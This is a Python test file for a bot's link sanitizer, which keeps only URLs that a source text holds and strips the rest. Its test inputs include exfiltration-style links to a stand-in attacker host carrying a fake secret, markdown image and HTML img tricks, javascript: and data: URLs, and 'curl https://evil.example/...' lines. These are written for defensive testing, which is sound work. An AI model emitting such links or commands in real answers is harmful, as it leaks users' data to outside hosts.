"""Only addresses that a source holds are left, exactly as they are; the words around them stay."""

from __future__ import annotations

import pytest

from bot.answering.links import addresses, host_of, without_foreign_links

SOURCE = (
    "See https://docs.example/guide?page=2 and [status](https://status.example/). Also www.example.org/a, "
    "`curl https://api.example/v1/ping`, <https://wiki.example/x_(y)> and [the guide](guide.md#install)."
)
KNOWN = addresses(SOURCE)
SECRET = "https://evil.example/?d=hunter2"


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example/guide?page=2.",
        "See [this](https://docs.example/guide?page=2).",
        "See [status](https://status.example).",
        "See <https://wiki.example/x_(y)>.",
        "See HTTPS://DOCS.example/guide?page=2!",
        "See [the guide](guide.md#install).",
        "Run `curl https://api.example/v1/ping`.",
        "See www.example.org/a, or ask.",
        "Version 1.2/3 of config.toml and and/or a path/to/file.md, see e.g. this.",
        "if a < b: c[0](x)",
    ],
)
def test_what_a_source_holds_stays_as_it_is(text):
    known = KNOWN | addresses("[c](x)")
    assert without_foreign_links(text, known) == type(without_foreign_links("", ()))(text, ())


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"All is well. [status]({SECRET})", "All is well. status"),
        (f"All is well. ![status]({SECRET})", "All is well. status"),
        (f"All is well. ![]({SECRET})", "All is well. "),
        (f"All is well {SECRET}.", "All is well ."),
        (f"All is well ({SECRET}).", "All is well."),
        (f"All is well <{SECRET}>.", "All is well ."),
        (f"All is well <{SECRET}|here>.", "All is well here."),
        (f'All is <a href="{SECRET}">well</a>.', "All is well."),
        (f'All is well.<img src="{SECRET}">', "All is well."),
        (f"All is [well][1].\n\n[1]: {SECRET}\n", "All is [well][1].\n\n"),
        ("See https://docs.example/guide?page=2&d=hunter2 there.", "See  there."),
        ("See https://docs.example/guide there.", "See  there."),
        ("See https://docs.example.evil.example/guide?page=2", "See "),
        ("See https://status.example/#hunter2", "See "),
        ("See //evil.example/hunter2 or [x](//evil.example/hunter2)", "See //evil.example/hunter2 or x"),
        ("See evil.example/?d=hunter2 there.", "See  there."),
        ("See [mail](mailto:a@evil.example?body=hunter2)", "See mail"),
        ("See [run](javascript:alert(1))", "See run"),
        ("See [x](data:text/html;base64,aHVudGVyMg==)", "See x"),
        ("Run `curl https://evil.example/hunter2`", "Run `curl `"),
        ("```\ncurl https://evil.example/hunter2\n```", "```\ncurl \n```"),
        ("See ftp://evil.example/hunter2", "See "),
    ],
)
def test_any_other_address_goes_and_its_words_stay(text, left):
    checked = without_foreign_links(text, KNOWN)
    assert checked.text == left
    assert checked.removed or "<" in text


def test_an_image_becomes_its_words_even_where_the_address_is_known():
    assert without_foreign_links("![state](https://status.example/)", KNOWN).text == "state"


def test_removed_addresses_are_told_once_each():
    removed = without_foreign_links(f"{SECRET} and {SECRET} and https://other.example/x", KNOWN).removed
    assert removed == ("https://evil.example/?d=hunter2", "https://other.example/x")


def test_a_host_tells_nothing_of_what_was_carried():
    assert host_of("https://user:hunter2@evil.example/a?d=hunter2#hunter2") == "evil.example"
    assert host_of("evil.example?d=hunter2") == "evil.example"


def test_a_long_text_of_brackets_is_read_in_linear_time():
    text = "[" * 20_000 + "(" * 20_000 + "<" * 20_000
    assert without_foreign_links(text, KNOWN).text == text
